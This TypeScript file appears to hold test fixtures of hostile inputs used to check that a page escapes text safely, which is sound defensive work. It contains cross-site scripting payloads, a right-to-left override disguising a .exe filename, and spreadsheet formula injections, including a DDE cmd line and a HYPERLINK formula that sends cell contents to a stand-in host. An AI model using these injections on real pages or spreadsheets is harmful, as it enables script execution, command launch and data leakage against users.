/** What a stranger would put into names and texts to break a page. `broken` is what a text that ran would set. */
export const hostileTexts = {
  script: '<script>window.broken = 1</script>',
  closing: '</script><img src=x onerror="window.broken = 2">',
  override: 'report\u202Egpj.exe',
  link: '[x](javascript:alert(1))',
  /** Of a file or folder: everything that a name on disk may hold. */
  fileName: `it's "new" <img src=x onerror='window.broken = 3'> \u202e\u0007 =1+1`,
  /** Halves of surrogate pairs, and what stands for bytes that are no UTF-8. */
  broken: 'half \ud83d and \udc00, lost \ufffd\ufffd',
} as const

/** What spreadsheets take for formulas. */
export const formulas = [
  '=HYPERLINK("http://example.test/?"&A1,"see")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '@SUM(1,2)',
  '-x()',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '"=1+1',
  'a","=1+1',
] as const
